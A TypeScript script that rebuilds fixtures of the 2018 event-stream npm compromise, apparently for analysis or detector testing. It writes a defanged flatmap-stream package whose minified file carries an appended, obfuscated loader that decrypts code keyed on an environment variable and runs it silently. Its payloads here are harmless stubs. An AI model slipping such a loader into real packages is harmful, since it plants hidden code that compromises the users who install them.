/**
 * Rebuilds the event-stream incident fixtures (2018) from what the public record keeps; see
 * fixtures/packages/src/EVENT-STREAM.md for the sources. Run with `npx tsx scripts/rebuild-event-stream.ts`,
 * then `npm run fixtures` to pack them.
 *
 * - event-stream 3.3.5 is the registry tarball, unpacked as is; this script only reads it.
 * - event-stream 3.3.6 (no longer served) = 3.3.5 + the repository's changes from the 3.3.5 commit
 *   (918d4a3) to the 3.3.6 commit (5999958), i.e. commits 50c0edb, 0f3738c, e316336 and 5999958.
 *   package-lock.json and .gitignore changed too but were never in the tarball.
 * - flatmap-stream 0.1.1 (no longer served) is a DEFANGED reconstruction: the loader appended to
 *   index.min.js has the shape published in the incident write-ups, but test/data.js holds ciphertext
 *   of harmless strings, made here with a dummy key. No part of the original payloads is used.
 *
 * Nothing here runs package code: files are read and written as text, and the only check on the
 * ciphertext decrypts it with node:crypto directly.
 */
import { createCipheriv, createDecipheriv, createHash } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join, relative } from "node:path";

const src = join(import.meta.dirname, "..", "fixtures", "packages", "src");

function walk(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true })
    .sort((a, b) => (a.name < b.name ? -1 : 1))
    .flatMap((d) => (d.isDirectory() ? walk(join(dir, d.name)) : [join(dir, d.name)]));
}

function write(dir: string, files: Record<string, string>): void {
  rmSync(dir, { recursive: true, force: true });
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  console.log(relative(process.cwd(), dir));
}

/** Replaces `before` by `after`, insisting that `before` occurs exactly once. */
function patch(files: Record<string, string>, path: string, before: string, after: string): void {
  const text = files[path];
  if (text === undefined) throw new Error(`${path}: missing`);
  const at = text.indexOf(before);
  if (at < 0 || text.indexOf(before, at + 1) >= 0) {
    throw new Error(`${path}: expected exactly one occurrence of ${JSON.stringify(before)}`);
  }
  files[path] = text.slice(0, at) + after + text.slice(at + before.length);
}

// ── event-stream 3.3.6 ──────────────────────────────────────────────────────────────────────────

const es335 = join(src, "event-stream", "3.3.5");
const es: Record<string, string> = {};
for (const file of walk(es335)) es[relative(es335, file).split("\\").join("/")] = readFileSync(file, "utf8");

// 50c0edb "add note for gulp 4 in readme" (the trailing spaces are the commit's own).
patch(
  es,
  "readme.markdown",
  "If your application's input and output are streams,  \nshouldn't the throughput be a stream too?  \n",
  "If your application's input and output are streams,  shouldn't the throughput be a stream too?  \n",
);
patch(
  es,
  "readme.markdown",
  '>NOTE: I shall use the term <em>"through stream"</em> to refer to a stream that is writable <em>and</em> readable.  \n\n',
  '>NOTE: I shall use the term <em>"through stream"</em> to refer to a stream that is writable <em>and</em> readable.  \n\n' +
    ">NOTE for Gulp users: Merge will not work for gulp 4. [merge-stream](https://npmjs.com/merge-stream) should be used. \n\n",
);

// 0f3738c "add collect alias for write array".
patch(
  es,
  "index.js",
  "\nes.writeArray = function (done) {",
  "\nes.collect =\nes.writeArray = function (done) {",
);

// e316336 "add flat map": the new dependency, its re-export and a test.
patch(
  es,
  "index.js",
  "  , from = require('from')\n",
  "  , from = require('from')\n  , flatmap = require('flatmap-stream')\n",
);
patch(es, "index.js", "es.from = from\n", "es.from = from\nes.flatmap = flatmap\n");
patch(
  es,
  "package.json",
  '    "duplexer": "^0.1.1",\n',
  '    "duplexer": "^0.1.1",\n    "flatmap-stream": "^0.1.0",\n',
);
es["test/flatmap.asynct.js"] = `'use strict';

var es = require('../')
  , it = require('it-is')

exports ['flatmap'] = function (test) {
  es.readArray([[1], [1, 2], [1, 2, 3]])
    .pipe(es.flatmap(function(e, cb) {
      cb(null, e + 1)
    }))
    .pipe(es.writeArray(function(error, array) {
      test.deepEqual([2, 2, 3, 2, 3, 4], array)
      test.end()
    }))
}

require('./helper')(module)
`;

// 5999958 "3.3.6".
patch(es, "package.json", '"version": "3.3.5"', '"version": "3.3.6"');

write(join(src, "event-stream", "3.3.6"), es);

// ── flatmap-stream 0.1.1 (defanged) ─────────────────────────────────────────────────────────────

/**
 * The key the loader reads from process.env.npm_package_description. The original used the
 * description of the targeted application; this one is a dummy, published in EVENT-STREAM.md.
 */
const DUMMY_KEY = "defanged fixture key, not the original";
/** What the first ciphertext decrypts to: the loader compiles it and calls it with PAYLOADS[1]. */
const PAYLOADS = ["module.exports = function () {}", "/* defanged: no second stage */"] as const;

/**
 * crypto.createCipher("aes256", password) as the loader's createDecipher expects it: AES-256-CBC with
 * key and IV from OpenSSL's EVP_BytesToKey (MD5, one round, no salt). Written out with createCipheriv
 * because createCipher is gone from Node 22; the output is the same bytes.
 */
function evpBytesToKey(password: string): { key: Buffer; iv: Buffer } {
  const blocks: Buffer[] = [];
  let prev = Buffer.alloc(0);
  while (Buffer.concat(blocks).length < 48) {
    prev = createHash("md5")
      .update(Buffer.concat([prev, Buffer.from(password, "utf8")]))
      .digest();
    blocks.push(prev);
  }
  const all = Buffer.concat(blocks);
  return { key: all.subarray(0, 32), iv: all.subarray(32, 48) };
}

function encrypt(text: string, password: string): string {
  const { key, iv } = evpBytesToKey(password);
  const cipher = createCipheriv("aes-256-cbc", key, iv);
  return cipher.update(text, "utf8", "hex") + cipher.final("hex");
}

function decrypt(hex: string, password: string): string {
  const { key, iv } = evpBytesToKey(password);
  const decipher = createDecipheriv("aes-256-cbc", key, iv);
  return decipher.update(hex, "hex", "utf8") + decipher.final("utf8");
}

const hex = (s: string) => Buffer.from(s, "utf8").toString("hex");

// test/data.js: ten strings, laid out as the write-ups describe the original (two ciphertexts, then
// hex for crypto, env, npm_package_description, aes256, createDecipher, _compile, hex, utf8).
const data = [
  ...PAYLOADS.map((p) => encrypt(p, DUMMY_KEY)),
  ...["crypto", "env", "npm_package_description", "aes256", "createDecipher", "_compile", "hex", "utf8"].map(
    hex,
  ),
];
data.forEach((d, i) => {
  const p = PAYLOADS[i as 0 | 1];
  if (p !== undefined && decrypt(d, DUMMY_KEY) !== p)
    throw new Error(`test/data.js[${i}] does not round-trip`);
});

// index.js: the readable source (the flat map the event-stream 3.3.6 test expects). Reconstructed: the
// original file is not archived anywhere public.
const INDEX = `var Stream = require('stream').Stream

// flatmap(mapper): a through stream. Every chunk written is a list of items;
// mapper(item, callback) is called for each item, and the mapped values are
// emitted one by one, in the order the items came in.

module.exports = function (mapper) {
  var stream = new Stream()
    , slots = []
    , next = 0
    , pending = 0
    , ended = false
    , done = false

  stream.readable = true
  stream.writable = true

  function flush () {
    while (next < slots.length && slots[next].ready) {
      var slot = slots[next]
      slots[next++] = null
      if (slot.value !== undefined) stream.emit('data', slot.value)
    }
    if (ended && !done && pending === 0 && next === slots.length) {
      done = true
      stream.readable = false
      stream.emit('end')
    }
  }

  function add (item) {
    var slot = { ready: false, value: undefined }
    slots.push(slot)
    pending++
    mapper(item, function (err, value) {
      if (slot.ready) return
      if (err) return stream.emit('error', err)
      slot.ready = true
      slot.value = value
      pending--
      flush()
    })
  }

  stream.write = function (data) {
    if (ended) throw new Error('flatmap stream is not writable')
    if (Array.isArray(data)) data.forEach(add)
    else add(data)
    return true
  }

  stream.end = function (data) {
    if (ended) return
    if (data !== undefined) stream.write(data)
    ended = true
    stream.writable = false
    flush()
  }

  stream.destroy = function () {
    ended = done = true
    stream.writable = stream.readable = false
    process.nextTick(function () {
      stream.emit('close')
    })
  }

  return stream
}
`;

// index.min.js: INDEX minified (uglify-js -c -m), with the loader appended on the same line.
const MINIFIED =
  'var Stream=require("stream").Stream;module.exports=function(r){var a=new Stream,i=[],t=0,n=0,o=!1,u=!1;' +
  'function l(){for(;t<i.length&&i[t].ready;){var e=i[t];i[t++]=null,void 0!==e.value&&a.emit("data",e.value)}' +
  'o&&!u&&0===n&&t===i.length&&(u=!0,a.readable=!1,a.emit("end"))}function d(e){var t={ready:!1,value:void 0};' +
  'i.push(t),n++,r(e,function(e,r){if(!t.ready){if(e)return a.emit("error",e);t.ready=!0,t.value=r,n--,l()}})}' +
  'return a.readable=!0,a.writable=!0,a.write=function(e){if(o)throw new Error("flatmap stream is not writable");' +
  "return Array.isArray(e)?e.forEach(d):d(e),!0},a.end=function(e){o||(void 0!==e&&a.write(e),o=!0,a.writable=!1,l())}," +
  'a.destroy=function(){o=u=!0,a.writable=a.readable=!1,process.nextTick(function(){a.emit("close")})},a};';

// The loader, as published in the write-ups: require("./test/data"), key from
// process.env.npm_package_description, createDecipher("aes256", key), compile the plaintext as a new
// module and call its export with the second string. Every error is swallowed.
const LOADER =
  '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}' +
  `var n=r(e("${hex("./test/data")}")),o=t[e(n[3])][e(n[4])];if(!o)return;` +
  "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));" +
  'var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();';

const flatmapPackage = {
  name: "flatmap-stream",
  version: "0.1.1",
  description: "Flat map for streams",
  main: "index.min.js",
  repository: { type: "git", url: "git+https://github.com/hugeglass/flatmap-stream.git" },
  keywords: ["flatmap", "stream"],
  author: "right9ctrl",
  license: "MIT",
};

write(join(src, "flatmap-stream", "0.1.1"), {
  "package.json": `${JSON.stringify(flatmapPackage, null, 2)}\n`,
  "index.js": INDEX,
  "index.min.js": `${MINIFIED}${LOADER}\n`,
  "test/data.js": `module.exports = [\n${data.map((d) => `  "${d}"`).join(",\n")}\n];\n`,
});
